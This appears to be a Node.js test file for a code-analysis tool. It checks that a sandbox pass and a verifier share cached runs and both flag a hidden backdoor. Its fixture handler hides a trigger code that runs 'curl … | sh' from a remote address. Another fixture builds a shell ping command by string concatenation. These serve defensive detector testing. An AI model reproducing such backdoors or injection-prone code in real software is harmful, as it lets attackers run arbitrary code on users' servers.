// One sandbox harness: on save, the sandbox pass and verification's preparation share one set of
// runs per function (the harness's per-thread cache), so each function runs once, and a backdoor
// either of them saw is reported by the other. The engine's own pass and verifier are used, with
// the pool's tasks run in this thread as a pool thread would run them.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { tasks } = require('../../../server/dist/workers/tasks.js');
const { harnessCounters } = require('../../../server/dist/external/sandbox/harness.js');
const { sandboxAnalyzeDocument } = require('../../../server/dist/external/sandbox/document-pass.js');
const { sandboxPass } = require('../../../server/dist/engine/sandbox/pass.js');
const { findUnits } = require('../../../server/dist/core/source/units.js');
const S = require('../verify/support');

/** The pool, with every task run in this thread (one pool thread's view).
 *  @type {any} it stands in for the AnalysisPool */
const inThread = {
  /** @param {string} name @param {any} input @param {{ signal?: AbortSignal }} [options] */
  async run(name, input, { signal } = {}) {
    const started = performance.now();
    return { kind: 'done', value: await tasks[name](input, signal), elapsedMs: performance.now() - started };
  },
};

const never = () => new AbortController().signal;

/** Default settings with a per-run time limit a busy machine cannot hit: a run that hit it would
 *  make the pass incomplete, and incomplete passes are not shared. */
function roomySettings(verify = {}) {
  const s = S.settings(verify);
  return { ...s, sandbox: { ...s.sandbox, timeMs: 20_000 } };
}

/** A handler with a hidden trigger only the trigger search finds; `tag` keeps each test's text apart. */
const redeem = (tag) => `function redeem${tag}(req, res) {
  const code = String(req.body.code || '');
  if (code.length === 11 && code.startsWith('ZZ') && code.endsWith('!q')) {
    require('child_process').exec('curl -s http://203.0.113.5/x | sh');
  }
  res.json({ ok: true });
}
module.exports = redeem${tag};
`;

/** What a save does with both passes on: the sandbox pass and verification of the same version. */
async function save(doc, order) {
  const settings = roomySettings({ maxOrbit: 2 });
  const fake = await S.startOllama((p) => S.models.honest(p));
  try {
    const { verifier, gate } = S.makeVerifier(fake.host);
    await gate.start(never());
    const sandbox = () => sandboxPass(inThread, doc, settings, never());
    const verify = () => verifier.verify({ doc, settings, staticFindings: [] }, never());
    const out = {};
    for (const step of order) out[step] = step === 'sandbox' ? await sandbox() : await verify();
    gate.dispose();
    return out;
  } finally {
    await fake.close();
  }
}

function passesOf(text) {
  const [unit] = findUnits('handler.js', text).units;
  return harnessCounters().passesByUnit.get(unit.hash) ?? 0;
}

test('on save the sandbox pass runs each function once and verification reuses those runs', async () => {
  const doc = S.snapshot(redeem('A'));
  const { sandbox, verify } = await save(doc, ['sandbox', 'verify']);
  assert.equal(sandbox.kind, 'done');
  assert.deepEqual(sandbox.report.findings.map((f) => f.ruleId), ['hidden-trigger']);
  assert.equal(sandbox.report.unitsTraced, 1);
  assert.equal(passesOf(doc.text), 1, 'the function ran once for both passes');
  // Verification reports what the sandbox saw in those same runs.
  assert.ok(verify.findings.some((f) => f.ruleId === 'hidden-trigger'), JSON.stringify(verify.findings.map((f) => f.ruleId)));
});

test('a backdoor seen in verification\'s runs is in the sandbox pass\'s diagnostics, without running the function again', async () => {
  const doc = S.snapshot(redeem('B'));
  const { sandbox, verify } = await save(doc, ['verify', 'sandbox']);
  assert.ok(verify.findings.some((f) => f.ruleId === 'hidden-trigger'));
  assert.equal(passesOf(doc.text), 1, 'the function ran once for both passes');
  assert.equal(sandbox.kind, 'done');
  assert.equal(sandbox.report.unitsCached, 1);
  assert.equal(sandbox.report.unitsTraced, 0);
  const [f] = sandbox.report.findings;
  assert.equal(f.ruleId, 'hidden-trigger');
  assert.equal(doc.text.slice(f.span.start, f.span.end).startsWith("require('child_process').exec("), true);
  assert.deepEqual(verify.findings.filter((x) => x.ruleId === 'hidden-trigger').map((x) => x.span), [f.span]);
});

test('a sandbox pass that also reports unexpected effects reads them from the same runs', async () => {
  const text = `function ping${'C'}(host) {\n  require('child_process').exec('ping -c 1 ' + host);\n  return true;\n}\nmodule.exports = ping${'C'};\n`;
  const doc = S.snapshot(text);
  const settings = roomySettings();
  /** @type {any} the outcome of a pass that ran (it has a report) */
  const plain = await sandboxPass(inThread, doc, settings, never());
  /** @type {any} */
  const loud = await sandboxPass(inThread, doc, { ...settings, sandbox: { ...settings.sandbox, unexpectedEffects: true } }, never());
  assert.equal(passesOf(text), 1);
  assert.equal(loud.report.unitsCached, 1);
  // What unexpectedEffects adds is there, exactly as a fresh pass with it would report.
  const fresh = await sandboxAnalyzeDocument({ fileName: doc.uri, text }, { cache: new Map(), limits: { timeMs: settings.sandbox.timeMs }, unexpectedEffects: true });
  assert.deepEqual(loud.report.findings.map((f) => [f.ruleId, f.span]), fresh.findings.map((f) => [f.ruleId, f.span]));
  assert.ok(loud.report.findings.length > plain.report.findings.length, JSON.stringify(loud.report.findings.map((f) => f.ruleId)));
});
